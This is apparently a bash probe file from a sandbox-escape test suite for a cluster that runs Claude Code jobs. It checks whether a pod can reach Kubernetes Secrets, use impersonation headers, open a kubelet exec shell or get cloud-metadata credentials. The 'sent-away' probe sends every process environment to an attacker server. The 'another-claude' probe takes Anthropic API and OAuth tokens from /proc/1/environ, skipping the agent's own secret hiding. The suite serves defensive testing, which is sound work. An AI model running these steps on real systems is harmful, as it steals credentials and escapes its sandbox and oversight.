#!/usr/bin/env bash
# What answers on the network: the cluster, the node, a cloud's metadata, a server of the attacker's. Sourced by run.sh.

# Neither curl nor openssl is in the image: git gets a file by https, and says why not.
https_get() {
  rm -f /tmp/got.$$
  printf 'get %s /tmp/got.%s\n\n' "$1" $$ | GIT_CURL_VERBOSE=1 GIT_TERMINAL_PROMPT=0 GIT_SSL_NO_VERIFY=1 timeout 15 git remote-https origin "$1" 2>&1
  cat /tmp/got.$$ 2>/dev/null
}
granted() { grep -Eq 'HTTP/[12.]+ 2[0-9]{2}'; }

probe apiserver-secrets "asks the apiserver for Secrets, Pods and itself, with no credential and with a made-up one"
apiserver-secrets() {
  local host=kubernetes.default.svc path answer
  # What anybody may see: else a refusal would prove nothing.
  https_get "https://$host/version" | grep -q gitVersion || breach "this probe can't reach what it should"
  for path in /api/v1/secrets /api/v1/namespaces/default/secrets /api/v1/pods /apis/claudejob.dev/v1alpha1/claudejobs /metrics /logs/; do
    answer=$(https_get "https://$host$path")
    ! granted <<<"$answer" || breach "$path: $answer"
  done
  note "refused"
}

probe apiserver-impersonation "asks as system:masters by a header"
apiserver-impersonation() {
  local answer
  answer=$(GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=http.extraHeader GIT_CONFIG_VALUE_0='Impersonate-User: system:admin' \
    GIT_CONFIG_KEY_1=http.extraHeader GIT_CONFIG_VALUE_1='Impersonate-Group: system:masters' \
    https_get https://kubernetes.default.svc/api/v1/secrets)
  ! granted <<<"$answer" || breach "$answer"
}

probe kubelet "asks the kubelet for its Pods, logs and a shell, with no credential"
kubelet() {
  local path answer
  for path in /pods /runningpods/ /metrics /configz /logs/ /containerLogs/kube-system/coredns/coredns /exec/default/x/y?command=id; do
    answer=$(https_get "https://$NODE:10250$path")
    ! granted <<<"$answer" || breach "$path: $answer"
  done
  http "$NODE" 10255 'GET /pods HTTP/1.0\r\n\r\n' | grep -q '^HTTP/1.. 200' && breach "10255 answers"
  note "$NODE: refused"
}

probe node-ports "asks the control plane's own ports on the node"
node-ports() {
  local port
  for port in 2379 2380 10256 10257 10259 10249 4194 9100 9099; do
    http "$NODE" "$port" 'GET /metrics HTTP/1.0\r\n\r\n' | grep -q '^HTTP/1.. 200' && [ "$port" != 10256 ] && breach "$port answers"
  done
  return 0
}

probe cloud-metadata "asks the metadata services of clouds for the node's credentials"
cloud-metadata() {
  local host
  for host in 169.254.169.254 169.254.170.2 169.254.170.23 100.100.100.200 192.0.0.192 metadata.google.internal; do
    for path in /latest/meta-data/iam/security-credentials/ /computeMetadata/v1/instance/service-accounts/default/token /metadata/identity/oauth2/token; do
      # shellcheck disable=SC2016
      timeout 1 bash -c 'exec 3<>"/dev/tcp/$0/80" && printf "GET %s HTTP/1.0\r\nHost: %s\r\nMetadata-Flavor: Google\r\nMetadata: true\r\n\r\n" "$1" "$0" >&3 && cat <&3' \
        "$host" "$path" 2>/dev/null | grep -q '^HTTP/1.. 200' && breach "$host answers"
    done
  done
  note "no answer: this node has none"
}

probe operator "asks the operator's own port"
operator() {
  local path
  for path in / /metrics /healthz /config /env /debug/pprof/ /actuator/env; do
    http claudejob-operator.claudejob-system.svc 8080 "GET $path HTTP/1.0\r\n\r\n"
  done
}

probe names "asks the cluster's DNS for everything"
names() {
  getent hosts kubernetes.default.svc.cluster.local
  cat /etc/resolv.conf /etc/hosts
}

probe sent-away "sends all that it can read of environments and files to a server of its own"
sent-away() {
  local host=${ATTACKER%:*} port=${ATTACKER#*:} body
  body=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | base64 -w0)
  http "$host" "$port" "POST /sent-away HTTP/1.0\r\nHost: $host\r\nContent-Length: ${#body}\r\n\r\n$body" >/dev/null
  body=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | head -c 100000)
  http "$host" "$port" "POST /sent-away-plainly HTTP/1.0\r\nHost: $host\r\nContent-Length: ${#body}\r\n\r\n${body//\\/}" >/dev/null
  note "to $host"
}

probe another-claude "starts Claude Code again, turned to a server of its own"
another-claude() {
  local variable
  # Claude Code keeps some of them from its tools, but not from whoever reads its environment.
  while IFS= read -r -d '' variable; do
    case $variable in
      CLAUDE_CODE_OAUTH_TOKEN=* | ANTHROPIC_API_KEY=*) export "${variable?}" ;;
    esac
  done </proc/1/environ
  ANTHROPIC_BASE_URL="http://$ATTACKER" CLAUDE_CODE_MAX_RETRIES=0 HOME=/tmp/another timeout 15 claude -p 'another one' </dev/null 2>&1 | tail -3
}
